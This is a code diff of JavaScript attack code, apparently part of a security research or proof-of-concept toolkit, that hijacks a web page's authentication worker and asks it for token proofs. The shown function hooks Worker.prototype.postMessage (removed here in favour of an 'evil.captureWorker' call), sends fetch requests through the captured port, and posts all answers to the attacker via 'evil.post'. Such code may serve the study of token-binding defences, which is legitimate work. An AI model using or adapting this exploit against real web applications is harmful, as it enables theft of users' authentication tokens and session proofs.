@@ -91,7 +91,7 @@ export function hookSigning(evil) {
 /** Asks the holder for proofs in every way that messages have, and sends the attacker all its answers. */
 export async function askForProofs(evil, { mode, holder, url, elsewhere, iat }) {
   const options = { type: "module", name: "tokenkeep", extendedLifetime: true };
-  const port = mode === "shared" ? new SharedWorker(holder, options).port : await ownWorker();
+  const port = mode === "shared" ? new SharedWorker(holder, options).port : await evil.captureWorker();
   const answers = [];
   port.addEventListener("message", ({ data }) => answers.push(data));
   port.start?.();
@@ -106,17 +106,4 @@ export async function askForProofs(evil, { mode, holder, url, elsewhere, iat }) 
   port.postMessage({ v: 1, id: last, op: "fetch", url, headers, options: wishes, ...wishes });
   while (!answers.some((answer) => answer.id === last)) await new Promise((resolve) => setTimeout(resolve, 10));
   await evil.post({ answers: evil.strings(answers) });
-
-  // A dedicated worker is private to its connection; the page's own one is reached through the prototype.
-  function ownWorker() {
-    return new Promise((resolve) => {
-      const { postMessage } = Worker.prototype;
-      Worker.prototype.postMessage = function (...message) {
-        Worker.prototype.postMessage = postMessage;
-        resolve(this);
-        return postMessage.apply(this, message);
-      };
-      app.auth.stats();
-    });
-  }
 }
